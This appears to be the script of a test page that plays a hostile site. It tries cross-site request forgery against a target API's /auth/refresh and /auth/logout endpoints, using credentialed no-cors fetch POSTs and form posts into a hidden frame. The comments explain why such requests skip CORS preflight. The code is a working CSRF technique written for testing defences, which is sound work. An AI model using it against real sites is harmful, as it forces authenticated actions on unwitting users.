// A hostile page: it cannot read the API's answers (no CORS grant for its origin), but it can
// make the browser send requests, and the browser decides which cookies go along. What really
// happened is visible to the API (its answers) and to the browser's network log, not to here.
const api = new URLSearchParams(location.search).get("api") || "";
document.getElementById("target").textContent = api || "(no ?api= given)";
let seq = 0;

function done(action, text) {
  seq += 1;
  const output = document.getElementById("result");
  output.textContent = `${action}: ${text}`;
  output.dataset.action = action;
  output.dataset.seq = String(seq);
}

// "Simple" requests (no custom header, no JSON content type) skip the CORS preflight, so the
// browser really sends them; mode "no-cors" only means the answer stays opaque to this page.
async function simplePost(action, path) {
  try {
    const response = await fetch(api + path, { method: "POST", credentials: "include", mode: "no-cors" });
    done(action, `sent (${response.type} answer)`);
  } catch (error) {
    done(action, `not sent: ${error}`);
  }
}

// The classic CSRF: a form posted into a frame, cookies attached by the browser.
function formPost(action, path) {
  const sink = document.getElementById("sink");
  sink.addEventListener("load", () => done(action, "answered into the frame"), { once: true });
  const form = document.createElement("form");
  form.method = "POST";
  form.action = api + path;
  form.target = "sink";
  document.body.append(form);
  form.submit();
  form.remove();
}

document.getElementById("attack-refresh").addEventListener("click", () => simplePost("refresh", "/auth/refresh"));
document.getElementById("attack-logout").addEventListener("click", () => simplePost("logout", "/auth/logout"));
document.getElementById("attack-form-logout").addEventListener("click", () => formPost("form-logout", "/auth/logout"));
